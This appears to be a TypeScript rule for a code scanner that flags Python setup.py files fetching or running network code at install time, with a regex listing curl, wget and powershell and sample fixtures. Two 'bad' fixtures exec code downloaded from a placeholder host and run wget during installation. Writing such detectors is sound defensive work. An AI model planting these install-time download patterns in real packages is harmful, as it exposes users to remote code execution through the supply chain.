import type { Match, Rule } from "../../core/mod.ts";
import { fullName, type NodeId, type SyntaxTree } from "../../syntax/mod.ts";

const FETCHES: ReadonlySet<string> = new Set([
  "urllib.request.urlopen",
  "urllib.request.urlretrieve",
  "requests.get",
  "requests.post",
  "requests.request",
  "httpx.get",
  "httpx.post",
  "urllib3.request",
  "urllib2.urlopen",
]);
const STARTS =
  /^(?:os\.(?:system|popen)|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput))$/;
/** Commands that bring code from elsewhere. */
const FETCHING = /(?:^|[\s"'(;&|])(?:curl|wget|powershell|pwsh)\b/i;

/** A file that builds a package when it is run: what pip does to install from a source archive. */
const known = new WeakMap<SyntaxTree, boolean>();

function isSetup(tree: SyntaxTree): boolean {
  let answer = known.get(tree);
  if (answer === undefined) {
    answer = /\b(?:setuptools|distutils)\b/.test(tree.text) &&
      /^[ \t]{0,12}(?:setuptools\.|core\.)?setup\(/m.test(tree.text);
    known.set(tree, answer);
  }
  return answer;
}

/** Units of a command that are looked at. */
const MAX_COMMAND = 4_000;

function where(tree: SyntaxTree, node: NodeId): Match | undefined {
  const callee = tree.child(node, "function");
  const name = callee === undefined ? undefined : fullName(tree, callee);
  if (name === undefined || !isSetup(tree)) return undefined;
  if (FETCHES.has(name)) {
    const message = `"${name}" uses the network while the package is installed`;
    return { span: tree.span(node), message };
  }
  const args = tree.child(node, "arguments");
  if (!STARTS.test(name) || args === undefined) return undefined;
  if (!FETCHING.test(tree.textOf(args).slice(0, MAX_COMMAND))) return undefined;
  const message = `"${name}" fetches code while the package is installed`;
  return { span: tree.span(node), message };
}

export default {
  id: "setup-download",
  family: "packaging",
  title: "Python setup that uses the network",
  why: "To install from a source archive, pip runs the file: what the address serves that day " +
    "runs, or is installed, on the user's machine, and no hash in a lock file covers it.",
  fix: "Ship what is needed in the package; publish wheels, whose installation runs nothing.",
  limits: "Sees the file that calls setup(), not the modules that it imports; a build backend of " +
    "the project's own is not followed.",
  severity: "high",
  confidence: "medium",
  cwe: ["CWE-494", "CWE-829"],
  owasp: ["MCP04:2025", "LLM04:2026", "LLM03:2025", "ASI04:2026"],
  atlas: ["AML.T0010"],
  since: "0.1.0",
  tags: ["supply-chain"],
  matcher: {
    kind: "syntax",
    languages: { python: { keywords: ["setup("], nodes: ["call"], where } },
  },
  bad: [
    {
      file: "setup.py",
      code: `import urllib.request
from setuptools import setup

exec(urllib.request.urlopen("https://get.notes.example/setup.txt").read())
setup(name="notes")
`,
      note: "At the top",
    },
    {
      file: "setup.py",
      code: `import subprocess
from setuptools import setup
from setuptools.command.install import install

class Install(install):
    def run(self):
        install.run(self)
        subprocess.call(["wget", "-q", "https://get.notes.example/agent"])

setup(name="notes", cmdclass={"install": Install})
`,
      note: "In a command of the installation",
    },
  ],
  good: [
    {
      file: "setup.py",
      code: `import subprocess
from setuptools import setup

version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
setup(name="notes", version=version, url="https://notes.example")
`,
      note: "The version out of git",
    },
    {
      file: "fetch.py",
      code: `import urllib.request

def setup(app):
    return urllib.request.urlopen("https://notes.example/feed").read()
`,
      note: "A function of the same name in a program",
    },
  ],
} satisfies Rule<SyntaxTree>;
